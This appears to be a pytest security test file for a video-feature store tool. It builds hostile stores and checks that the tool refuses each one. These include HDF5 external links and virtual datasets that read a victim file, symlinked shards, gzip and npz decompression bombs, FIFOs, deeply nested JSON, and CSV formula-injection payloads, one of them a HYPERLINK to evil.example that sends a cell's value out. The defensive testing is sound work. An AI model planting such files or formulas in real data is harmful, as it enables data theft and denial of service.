"""Stores written by someone else (issue 24, item 2): every payload is refused cleanly.

One "zoo" store holds a set per payload, built with h5py and numpy: HDF5 external raw
storage and a virtual dataset reading a victim file, external and soft links, a symlinked
shard with a crafted ``.index.npz``, a gzip bomb (1 GiB of zeros in a ~1 MB shard) and a
chunk that inflates far past its declared size, a shard index claiming a 16 GiB layout, an
``.index.npz`` holding 2 GiB of compressed zeros, FIFOs and a ``/dev/zero`` symlink as
failures logs and shards, a ``set.json`` nested 100k deep, dtype strings such as ``"f8,,"``,
strings where numbers belong, a deep JSON line in a failures log, a ``..`` id and a
``=HYPERLINK(...)`` label.

``vidfeat store info|verify|export`` run in subprocesses limited to 1.5 GB of address space
and 60 s: each must end with exit code 0/1/2 as the case asks, no traceback, no signal, a
message naming the file, and the victims' bytes nowhere in the output or the exports (the
victims unchanged). The readers (``FeatureSet.get/features/get_extra``, show's loader,
fusion's set check) are called in-process.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import resource
import struct
import subprocess
import sys
import warnings
import zlib
from pathlib import Path

import h5py
import numpy as np
import pytest

from vidfeat import csvsafe
from vidfeat.errors import StoreError
from vidfeat.store import FeatureSet, FeatureStore, ShardWriter, StoreWarning, read_failures
from vidfeat.store.guard import open_regular
from vidfeat.store.setindex import INDEX_FILE, SetIndex, ShardRec
from vidfeat.store.shardindex import SHARD_INDEX_ATTR, listing_from_rows

REPO = Path(__file__).resolve().parents[1]
SECRET = b"VICTIM-SECRET-"
CFG = {"modality": "rgb", "T": 4, "dtype": "float32", "feature_shape": [4, 8]}
GiB = 1 << 30
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# --------------------------------------------------------------------------- helpers


def feats(seed: int) -> np.ndarray:
    return np.random.default_rng(seed).standard_normal((4, 8)).astype(np.float32)


def legit_set(root: Path, name: str, ids=("good",), cfg=None, attrs=None) -> Path:
    """A set written by vidfeat itself: its shard carries an index; videos read by pread."""
    st = FeatureStore(root)
    st.ensure_set(name, cfg or CFG)
    with ShardWriter(st.set_dir(name), "j", compression=None) as w:
        for i, vid in enumerate(ids):
            a = {"label": "walk", "fps": 25.0, "duration": 2.0, **((attrs or {}).get(vid, {}))}
            w.add(vid, feats(i), a, extra={"scores": np.full(3, 0.5, np.float32)})
    return st.set_dir(name)


def shard_of(d: Path) -> Path:
    (p,) = sorted(d.glob("part-*.h5"))
    return p


def zeros_deflate(n: int, raw: bool = False) -> bytes:
    """A valid deflate stream of ``n`` MiB of zeros, built from one compressed MiB repeated
    (a full flush makes each MiB compress to the same bytes), in milliseconds."""
    mib = bytes(1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    first = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush()
    body = first + again * (n - 1)
    if raw:
        return body + tail
    adler = 1
    for _ in range(n):
        adler = zlib.adler32(mib, adler)
    return body + tail[:-4] + struct.pack(">I", adler)


def zip_bytes(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip archive of (name, stored bytes, method, uncompressed size, crc) members."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, method, usize, crc in members:
        off = out.tell()
        nb = name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                usize,
                len(nb),
                0,
            )
            + nb
            + data
        )
        central.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                usize,
                len(nb),
                0,
                0,
                0,
                0,
                0,
                off,
            )
            + nb
        )
    cd = central.getvalue()
    n = len(members)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), out.tell(), 0)
    return out.getvalue() + cd + end


def run(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """``python -m vidfeat ARGS`` in 1.5 GB of address space; never a signal, never a hang."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))

    env = {**os.environ, "PYTHONPATH": str(REPO), "VIDFEAT_MAX_ARRAY_MB": "512"}
    p = subprocess.run(
        [sys.executable, "-m", "vidfeat", *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=limit,
        env=env,
        errors="replace",
    )
    assert p.returncode >= 0, f"killed by signal {-p.returncode}: {p.stderr[-2000:]}"
    out = p.stdout + p.stderr
    assert "Traceback" not in out, out[-3000:]
    assert "VICTIM-SECRET" not in out
    return p


def no_secret_under(folder: Path) -> None:
    for p in folder.rglob("*"):
        if p.is_file() and not p.is_symlink():
            assert SECRET not in p.read_bytes(), p


# --------------------------------------------------------------------------- the zoo


@pytest.fixture(scope="module")
def zoo(tmp_path_factory: pytest.TempPathFactory) -> dict:
    tmp = tmp_path_factory.mktemp("untrusted")
    root = tmp / "zoo"
    victim = tmp / "victim.bin"  # a file of the user running vidfeat, outside the store
    victim.write_bytes(SECRET * 4096)
    victim_h5 = tmp / "victim.h5"
    with h5py.File(victim_h5, "w") as f:
        f["secret"] = np.frombuffer(victim.read_bytes()[:128], np.float32).reshape(4, 8)
        f.create_group("vid")["features"] = f["secret"][()]
    z: dict = {"root": root, "victim": victim, "victim_h5": victim_h5, "tmp": tmp}

    # legit sets, one with a formula label and ids a spreadsheet would run
    legit_set(
        root,
        "ok",
        ids=("a", "-1+1", "@SUM(A1)"),
        attrs={"a": {"label": HYPERLINK}, "-1+1": {"fps": -0.5}},
    )

    # HDF5 external raw storage, a virtual dataset, external and soft links
    d = legit_set(root, "external")
    with h5py.File(shard_of(d), "a") as f:
        f.create_group("v_ext").create_dataset(
            "features", shape=(4, 8), dtype="f4", external=[(str(victim), 0, 128)]
        )
    d = legit_set(root, "virtual")
    with h5py.File(shard_of(d), "a") as f:
        lay = h5py.VirtualLayout(shape=(4, 8), dtype="f4")
        lay[:] = h5py.VirtualSource(str(victim_h5), "secret", shape=(4, 8))
        f.create_group("v_vds").create_virtual_dataset("features", lay)
    d = legit_set(root, "links")
    with h5py.File(shard_of(d), "a") as f:
        f["v_link"] = h5py.ExternalLink(str(victim_h5), "/vid")
        f.create_group("v_flink")["features"] = h5py.ExternalLink(str(victim_h5), "/secret")
        f["v_soft"] = h5py.SoftLink("/good")
        f.create_group("v_fsoft")["features"] = h5py.SoftLink("/good/features")
        f["good"]["scores_link"] = h5py.ExternalLink(str(victim_h5), "/secret")

    # a symlinked shard and an .index.npz that lists it, sized and dated as its target
    d = legit_set(root, "symlink")
    evil = d / "part-evil-0.h5"
    evil.symlink_to(victim)
    st = os.stat(evil)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StoreWarning)
        FeatureSet(d)  # writes the honest cache first
    good = SetIndex.load(d / INDEX_FILE)
    listing = listing_from_rows(["stolen"], [(0, ((4, 8), "<f4"), 1e12)], indexed=True)
    rec = ShardRec("part-evil-0.h5", st.st_size, st.st_mtime_ns)
    SetIndex.assemble([(rec, listing), *[(s, good) for s in good.shards]]).save(d / INDEX_FILE)

    # a gzip bomb: 1 GiB of zeros in a ~1 MB shard, in a set whose feature_shape is open
    bomb_cfg = {**CFG, "dtype": "uint8", "feature_shape": [None, None]}
    d = legit_set(root, "gzipbomb", cfg=bomb_cfg)
    comp = zlib.compress(bytes(1 << 20), 9)
    with h5py.File(shard_of(d), "a") as f:
        ds = f.create_group("bomb").create_dataset(
            "features",
            shape=(1 << 15, 1 << 15),
            dtype="u1",
            chunks=(32, 1 << 15),
            compression="gzip",
        )
        for k in range(1024):
            ds.id.write_direct_chunk((k * 32, 0), comp)
    # a chunk declared 64 bytes whose stream inflates to 256 MiB
    d = legit_set(root, "inflatebomb", cfg=bomb_cfg)
    with h5py.File(shard_of(d), "a") as f:
        ds = f.create_group("bomb").create_dataset(
            "features", shape=(8, 8), dtype="u1", chunks=(8, 8), compression="gzip"
        )
        ds.id.write_direct_chunk((0, 0), zeros_deflate(256))

    # a shard whose own index claims a 16 GiB layout for a small array
    d = legit_set(root, "hugeindex", cfg={**CFG, "feature_shape": [None, 4096]})
    with h5py.File(shard_of(d), "a") as f:
        idx = json.loads(f.attrs[SHARD_INDEX_ATTR])
        idx["layouts"] = [[[1 << 20, 4096], "<f4"]]
        f.attrs[SHARD_INDEX_ATTR] = json.dumps(idx)

    # an .index.npz of 2 GiB of compressed zeros (~2 MB on disk)
    d = legit_set(root, "npzbomb")
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        hdr, {"descr": "|u1", "fortran_order": False, "shape": (2 * GiB,)}
    )
    stream = zeros_deflate(2048, raw=True)
    members = [
        (f"{k}.npy", hdr.getvalue() + stream, 8, len(hdr.getvalue()) + 2 * GiB, 0) for k in ("ids",)
    ]
    (d / INDEX_FILE).write_bytes(zip_bytes(members))

    # files that are not regular files: FIFOs, a symlink to /dev/zero, a directory
    d = legit_set(root, "fifo")
    os.mkfifo(d / "part-fifo-0.h5")
    os.mkfifo(d / "failures-fifo.jsonl")
    (d / "part-dir-0.h5").mkdir()
    (d / "failures-zero.jsonl").symlink_to("/dev/zero")
    os.mkfifo(d / "part-p-0.h5.partial")  # a partial whose lock is a FIFO: never opened
    os.mkfifo(d / "part-p-0.h5.partial.lock")
    (d / "part-q-0.h5.partial").write_bytes(b"")
    (d / "part-q-0.h5.partial.lock").symlink_to("/dev/zero")
    (d / "failures-ok.jsonl").write_text(json.dumps({"video_id": "lost", "message": "m"}) + "\n")
    (d / "failures-deep.jsonl").write_text(
        '{"video_id": "deep", "x": '
        + "[" * 100_000
        + "]" * 100_000
        + "}\n"
        + json.dumps({"video_id": ["not", "a", "string"]})
        + "\n"
        + json.dumps({"video_id": "lost2", "message": "m"})
        + "\n"
    )

    # set.json nested 100k deep
    (root / "deepjson").mkdir()
    (root / "deepjson" / "set.json").write_text(
        '{"feature_shape": ' + "[" * 100_000 + "]" * 100_000 + "}"
    )

    # nested just shallow enough for json to parse, too deep for anything that prints it
    (root / "deepish").mkdir()
    (root / "deepish" / "set.json").write_text(
        '{"feature_shape": [4, 8], "x": ' + "[" * 900 + "]" * 900 + "}"
    )

    # dtype strings numpy would parse badly, in set.json and in a shard's index
    d = legit_set(root, "baddtype")
    cfg = json.loads((d / "set.json").read_text())
    (d / "set.json").write_text(json.dumps({**cfg, "dtype": "f8,,"}))
    with h5py.File(shard_of(d), "a") as f:
        idx = json.loads(f.attrs[SHARD_INDEX_ATTR])
        idx["layouts"] = [[[4, 8], "f8,,"]]
        f.attrs[SHARD_INDEX_ATTR] = json.dumps(idx)

    # strings and arrays where numbers belong; an id no file can have
    d = legit_set(
        root,
        "attrs",
        cfg={**CFG, "note": "\x1b]0;a terminal title\x07"},
        ids=("good", "strfps", "vlenseg", "arrlabel", "corrupt"),
        attrs={
            "strfps": {"fps": "abc"},
            "vlenseg": {"segment_start": ["0", "x"]},
            "arrlabel": {"label": np.arange(3)},
        },
    )
    with h5py.File(shard_of(d), "r") as f:  # a damaged object header: its checksum fails
        addr = h5py.h5o.get_info(f["corrupt"].id).addr
    with open(shard_of(d), "r+b") as fh:
        fh.seek(addr + 30)
        byte = fh.read(1)
        fh.seek(addr + 30)
        fh.write(bytes([byte[0] ^ 0xFF]))
    d = legit_set(root, "dotdot", ids=("a", "b"))
    with h5py.File(shard_of(d), "a") as f:
        f.create_group("..").create_dataset("features", data=feats(9))
    (root / "badshape").mkdir()
    (root / "badshape" / "set.json").write_text(json.dumps({**CFG, "feature_shape": 7}))

    z["victim_sha"] = hashlib.sha256(victim.read_bytes()).hexdigest()
    z["victim_h5_sha"] = hashlib.sha256(victim_h5.read_bytes()).hexdigest()
    yield z
    assert hashlib.sha256(victim.read_bytes()).hexdigest() == z["victim_sha"]
    assert hashlib.sha256(victim_h5.read_bytes()).hexdigest() == z["victim_h5_sha"]


def open_set(zoo: dict, name: str) -> FeatureSet:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StoreWarning)
        return FeatureSet(zoo["root"] / name)


# --------------------------------------------------------------------------- store info / verify


def test_info_reads_no_payload(zoo):
    p = run("store", "info", str(zoo["root"]))
    assert p.returncode == 0, p.stderr
    out = p.stdout + p.stderr
    assert "deepjson" in out and "not valid JSON (nested too deeply)" in out
    assert (
        "deepish/set.json (configuration of set 'deepish') is not valid JSON (nested too "
        "deeply: more than 64 levels)" in out
    )
    assert "\x1b" not in out and 'note: "\\u001b]0;a terminal title\\u0007"' in out
    assert "set.json" in out
    # the FIFO shard and failures log, the directory shard, the /dev/zero symlink: skipped
    for name in ("part-fifo-0.h5", "failures-fifo.jsonl", "part-dir-0.h5", "failures-zero.jsonl"):
        assert name in out
    assert "a FIFO" in out and "a symbolic link" in out
    assert "part-evil-0.h5 is a symbolic link" in out
    # the npz bomb was never inflated: the cache was rebuilt from the shard
    assert zoo["root"].joinpath("npzbomb", INDEX_FILE).stat().st_size < 100_000


def test_verify_flags_every_payload(zoo):
    p = run("store", "verify", str(zoo["root"]))
    assert p.returncode == 1
    out = p.stdout
    problems = [ln for ln in out.splitlines() if ln.startswith("PROBLEM: ")]
    want = {
        "external": ["'v_ext'", "external files"],
        "virtual": ["'v_vds'", "virtual dataset"],
        "links": [
            "'v_link' is not read",
            "external link",
            "'v_flink/features' is not read",
            "'v_soft' is not read",
            "soft link",
            "'good/scores_link' is not read",
        ],
        "symlink": ["part-evil-0.h5 is a symbolic link"],
        "gzipbomb": ["'bomb'", "more than the 536,870,912"],
        "inflatebomb": ["'bomb'", "a chunk stores"],
        "hugeindex": ["the index of shard", "does not match"],
        "fifo": [
            "part-fifo-0.h5 is a FIFO",
            "failures-fifo.jsonl is a FIFO",
            "part-dir-0.h5 is a directory",
            "failures-zero.jsonl is a symbolic link",
        ],
        "deepjson": ["nested too deeply"],
        "deepish": ["more than 64 levels"],
        "baddtype": ['dtype "f8,," is not a numeric dtype', "cannot be decoded"],
        "dotdot": ["'..' is not a video id"],
        "badshape": ["feature_shape must be a list"],
    }
    for name, parts in want.items():
        mine = " | ".join(ln for ln in problems if f"'{name}'" in ln or f"/{name}/" in ln)
        for part in parts:
            assert part in mine, (name, part, mine or out[-3000:])
    assert "'corrupt'" in " ".join(ln for ln in problems if "'attrs'" in ln)
    for fine in ("ok", "npzbomb"):
        assert not [ln for ln in problems if f"'{fine}'" in ln], out


# --------------------------------------------------------------------------- store export


@pytest.mark.parametrize(
    ("name", "bad", "why"),
    [
        ("external", "v_ext", "external files"),
        ("virtual", "v_vds", "virtual dataset"),
        ("links", "v_link", "external link"),
        ("gzipbomb", "bomb", "more than the"),
        ("inflatebomb", "bomb", "a chunk stores"),
        ("hugeindex", "good", "its index entry says"),
        ("dotdot", "..", "invalid video id"),
    ],
)
def test_export_fails_the_bad_video_and_goes_on(zoo, tmp_path, name, bad, why):
    out = tmp_path / "out"
    p = run("store", "export", str(zoo["root"]), "--set", name, "--out", str(out), "-q")
    assert p.returncode == 1, p.stdout + p.stderr
    assert f"failed: {bad}: " in p.stderr and why in p.stderr, p.stderr
    assert f"{4 if name == 'links' else 1} failed" in p.stdout
    written = sorted(x.name for x in out.iterdir())
    if name != "hugeindex":
        assert "good.npy" in written or "a.npy" in written, written
    assert not any(x.startswith("..") for x in written)
    no_secret_under(out)
    assert not (zoo["tmp"] / f"{bad}.npy").exists() and not (zoo["root"] / "x.npy").exists()


def test_export_skips_symlinked_shards_and_reads_no_cache_offsets(zoo, tmp_path):
    out = tmp_path / "out"
    p = run("store", "export", str(zoo["root"]), "--set", "symlink", "--out", str(out), "-q")
    assert p.returncode == 1, p.stderr  # the export is incomplete: it says so and fails
    assert "part-evil-0.h5 is a symbolic link" in p.stderr
    assert "1 unreadable shard(s)" in p.stdout and "unreadable shard part-evil-0.h5" in p.stderr
    assert sorted(x.name for x in out.iterdir() if x.suffix == ".npy") == ["good.npy"]
    no_secret_under(out)


def test_export_of_a_deep_set_json_is_a_clear_error(zoo, tmp_path):
    p = run("store", "export", str(zoo["root"]), "--set", "deepjson", "--out", str(tmp_path / "o"))
    assert p.returncode == 2
    assert "deepjson/set.json" in p.stderr and "nested too deeply" in p.stderr


def test_export_attrs_of_the_wrong_kind_and_a_formula_label(zoo, tmp_path):
    out = tmp_path / "attrs"
    p = run("store", "export", str(zoo["root"]), "--set", "attrs", "--out", str(out), "-q")
    assert p.returncode == 1
    for vid, attr in (("strfps", "fps"), ("vlenseg", "segment_start"), ("arrlabel", "label")):
        assert f"failed: {vid}: attr {attr!r}" in p.stderr, p.stderr
    assert (
        "failed: corrupt: video 'corrupt' in shard part-j-0.h5 of set 'attrs' cannot be"
        " read" in p.stderr
    )
    assert "4 failed" in p.stdout
    assert (out / "good.npy").exists()
    out = tmp_path / "ok"
    p = run("store", "export", str(zoo["root"]), "--set", "ok", "--out", str(out), "-q")
    assert p.returncode == 0, p.stderr
    text = (out / "manifest.csv").read_text()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"a", "'-1+1", "'@SUM(A1)"}
    assert rows["a"]["label"] == "'" + HYPERLINK
    assert rows["'-1+1"]["fps"] == "-0.5"  # a number stays a number
    assert {csvsafe.uncell(v) for v in rows} == {"a", "-1+1", "@SUM(A1)"}
    for line in text.splitlines()[1:]:
        for c in next(csv.reader([line])):
            assert not c.startswith(("=", "+", "@", "\t", "\r")), c
            assert not c.startswith("-") or csvsafe._NUMBER.fullmatch(c), c


# --------------------------------------------------------------------------- readers in-process


@pytest.mark.parametrize(
    ("name", "vid", "why"),
    [
        ("external", "v_ext", "external files"),
        ("virtual", "v_vds", "virtual dataset"),
        ("links", "v_link", "external link"),
        ("links", "v_flink", "external link"),
        ("links", "v_soft", "soft link"),
        ("links", "v_fsoft", "soft link"),
        ("gzipbomb", "bomb", "more than the"),
        ("inflatebomb", "bomb", "a chunk stores"),
        ("dotdot", "..", "which no video can have"),
    ],
)
def test_readers_refuse(zoo, name, vid, why):
    fs = open_set(zoo, name)
    for read in (fs.get, fs.features, fs.attrs) if name == "dotdot" else (fs.get, fs.features):
        with pytest.raises(StoreError, match=why) as e:
            read(vid)
        assert f"set {name!r}" in str(e.value)
    good = "a" if name == "dotdot" else "good"
    np.testing.assert_array_equal(fs.features(good), feats(0))  # the rest reads on


def test_extra_datasets_through_links_are_refused(zoo):
    fs = open_set(zoo, "links")
    with pytest.raises(StoreError, match="external link"):
        fs.get_extra("good", "scores_link")
    assert fs.get_extra("good", "scores").tolist() == [0.5, 0.5, 0.5]
    assert fs.get_extra("good", "nothing") is None


def test_a_symlinked_shard_and_its_cached_offsets_are_never_read(zoo):
    with pytest.warns(StoreWarning, match="part-evil-0.h5 is a symbolic link"):
        fs = FeatureSet(zoo["root"] / "symlink", read_only=True)
    assert "stolen" not in fs and fs.ids() == ["good"]
    assert "part-evil-0.h5" in fs.bad_shards()
    # the cache cannot point the pread fast path at another file, nor past a shard's end
    with pytest.raises(StoreError, match="symbolic link"):
        open_regular(zoo["root"] / "symlink" / "part-evil-0.h5")


def test_an_index_claiming_16_gib_is_refused_before_allocating(zoo):
    fs = open_set(zoo, "hugeindex")
    with pytest.raises(StoreError, match="its index entry says shape \\[1048576, 4096\\]"):
        fs.features("good")
    assert fs.get("good")[0].shape == (4, 8)  # the shard's own dataset is small and sound


def test_an_npz_bomb_is_not_inflated(zoo, tmp_path):
    d = tmp_path / "s"
    d.mkdir()
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        hdr, {"descr": "|u1", "fortran_order": False, "shape": (2 * GiB,)}
    )
    bomb = zip_bytes(
        [
            (
                "ids.npy",
                hdr.getvalue() + zeros_deflate(2048, raw=True),
                8,
                len(hdr.getvalue()) + 2 * GiB,
                0,
            )
        ]
    )
    (d / INDEX_FILE).write_bytes(bomb)
    assert SetIndex.load(d / INDEX_FILE) is None
    # a stored member whose header claims more than it holds, and a header numpy cannot parse
    real = legit_set(tmp_path / "st", "s")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StoreWarning)
        FeatureSet(real)
    good = (real / INDEX_FILE).read_bytes()
    assert SetIndex.load(real / INDEX_FILE) is not None
    for old, new in (
        (b"'shape': (", b"'shape': (9999999999"),
        (b"'descr': '<i8'", b"'descr': 'f8,,'"),
    ):
        (real / INDEX_FILE).write_bytes(good.replace(old, new, 1))
        assert SetIndex.load(real / INDEX_FILE) is None


def test_failures_logs_and_locks_through_planted_files(zoo, tmp_path):
    from vidfeat.store import FailureLog, cleanup_stale_partials, partial_is_live

    d = zoo["root"] / "fifo"
    assert not partial_is_live(d / "part-p-0.h5.partial")  # its FIFO lock never blocks
    assert not partial_is_live(d / "part-q-0.h5.partial")
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    s = tmp_path / "set"
    s.mkdir()
    (s / "failures-j.jsonl").symlink_to(victim)
    with pytest.raises(StoreError, match="failures-j.jsonl"):
        FailureLog(s, "j").add("v", "p", "E", "m")
    os.mkfifo(s / "failures-k.jsonl")
    with pytest.raises(StoreError, match="not a regular file"):
        FailureLog(s, "k").add("v", "p", "E", "m")
    assert victim.read_text() == "mine\n"
    os.mkfifo(s / "part-x-0.h5.partial.lock")
    (s / "part-x-0.h5.partial").write_bytes(b"")
    assert cleanup_stale_partials(s) == []  # a lock it did not make: left alone, not blocked on


def test_failures_logs_that_are_not_regular_files_are_skipped(zoo):
    with pytest.warns(StoreWarning) as caught:
        recs = read_failures(zoo["root"] / "fifo")
    assert sorted(r["video_id"] for r in recs) == ["lost", "lost2"]
    said = " ".join(str(w.message) for w in caught)
    assert "failures-fifo.jsonl" in said and "failures-zero.jsonl" in said


def test_set_json_and_dtype_strings_stay_in_the_error_hierarchy(zoo):
    with pytest.raises(StoreError, match="nested too deeply"):
        FeatureSet(zoo["root"] / "deepjson")
    with pytest.raises(StoreError, match="feature_shape must be a list"):
        FeatureSet(zoo["root"] / "badshape")
    fs = open_set(zoo, "baddtype")  # its index is malformed: the groups are listed instead
    np.testing.assert_array_equal(fs.features("good"), feats(0))


def test_a_chunk_inflating_past_its_size_stops_at_its_size(tmp_path):
    # 512 MiB of zeros in a ~0.5 MB stream: fewer bytes than the 1 MiB chunk it claims to be
    d = legit_set(tmp_path, "s", cfg={**CFG, "dtype": "uint8", "feature_shape": None})
    with h5py.File(shard_of(d), "a") as f:
        ds = f.create_group("bomb").create_dataset(
            "features", shape=(1024, 1024), dtype="u1", chunks=(1024, 1024), compression="gzip"
        )
        ds.id.write_direct_chunk((0, 0), zeros_deflate(512))
        f.create_group("fine").create_dataset(
            "features",
            data=np.arange(3000, dtype=np.int16).reshape(100, 30),
            chunks=(7, 30),
            compression="gzip",
            shuffle=True,
        )
    fs = open_set({"root": tmp_path}, "s")
    with pytest.raises(StoreError, match="inflates to more than the 1,048,576 bytes"):
        fs.features("bomb")
    np.testing.assert_array_equal(fs.features("fine"), np.arange(3000).reshape(100, 30))


def test_show_and_fusion_refuse_with_an_error(zoo):
    from vidfeat.fusion.data import open_sets
    from vidfeat.show import _load_sets

    with pytest.raises(StoreError, match="feature_shape must be a list"):
        open_sets(zoo["root"], ["badshape"])

    class One(FeatureStore):
        def __init__(self, root, name):
            super().__init__(root)
            self.name = name

        def sets(self):
            return [self.name]

    for name, vid, why in (
        ("external", "v_ext", "external files"),
        ("attrs", "vlenseg", "segment_start"),
        ("attrs", "arrlabel", "label"),
        ("links", "v_link", "external link"),
    ):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", StoreWarning)
            with pytest.raises(StoreError, match=why):
                _load_sets(One(zoo["root"], name), vid)


def test_csv_cells_are_neutralised_reversibly_and_numbers_stay_numbers():
    texts = [
        "=1+1",
        "+x",
        "-abc",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=x",
        "''-y",
        "'",
        "",
        "a=b",
        "-",
        "-inf",
        "-1+1",
        "'plain",
    ]
    for t in texts:
        c = csvsafe.cell(t)
        assert csvsafe.uncell(c) == t
        assert not c.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or c.startswith("'")
    for number in ("-0.5", "+3", "-1e-3", "12", ".5", "-7."):
        assert csvsafe.cell(number) == number and csvsafe.uncell(number) == number
    assert csvsafe.cell(-0.5) == -0.5 and csvsafe.cell(3) == 3
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerow(["=cmd|' /C calc'!A0", -1.5, "-2"])
    assert buf.getvalue() == "'=cmd|' /C calc'!A0,-1.5,-2\n"
